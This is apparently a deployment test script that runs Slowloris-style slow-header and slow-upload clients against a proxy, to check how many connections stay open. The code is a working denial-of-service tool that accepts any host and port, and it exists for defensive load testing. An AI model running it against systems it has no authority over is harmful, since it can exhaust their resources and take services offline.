"""Clients that try to use up the proxy: slow headers, and slow uploads without a key.

    python -m tests.deploy.attack HOST PORT KIND COUNT SECONDS

Prints the number of connections that were open at the end.
"""

import asyncio
import contextlib
import sys

HEADERS = b"GET /v1/models HTTP/1.1\r\nhost: a\r\nx: "
UPLOAD = b"POST /v1/chat/completions HTTP/1.1\r\nhost: a\r\ncontent-length: 25000000\r\n\r\n"
#: bytes that a slow upload sends at once; 25 MB take 40 s
PART = b" " * 65_536


async def attack(host: str, port: int, kind: str, until: float) -> bool:
    """One client, which comes back whenever it is closed; return whether it was open at the end."""
    loop, open_ = asyncio.get_running_loop(), False
    while loop.time() < until:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(host, port)
            open_ = True
            try:
                writer.write(HEADERS if kind == "headers" else UPLOAD)
                while loop.time() < until and not writer.is_closing():
                    writer.write(b"a" if kind == "headers" else PART)
                    await asyncio.wait_for(writer.drain(), 5)
                    await asyncio.sleep(1 if kind == "headers" else 0.1)
            except (TimeoutError, OSError):
                open_ = False
            finally:
                writer.close()
        await asyncio.sleep(0.2)
    return open_


async def main(host: str, port: int, kind: str, count: int, seconds: float) -> None:
    until = asyncio.get_running_loop().time() + seconds
    ended = await asyncio.gather(*(attack(host, port, kind, until) for _ in range(count)))
    print(f"{kind}: {sum(ended)} of {count} connections were open at the end")


if __name__ == "__main__":
    address, number, what, clients, duration = sys.argv[1:]
    asyncio.run(main(address, int(number), what, int(clients), float(duration)))
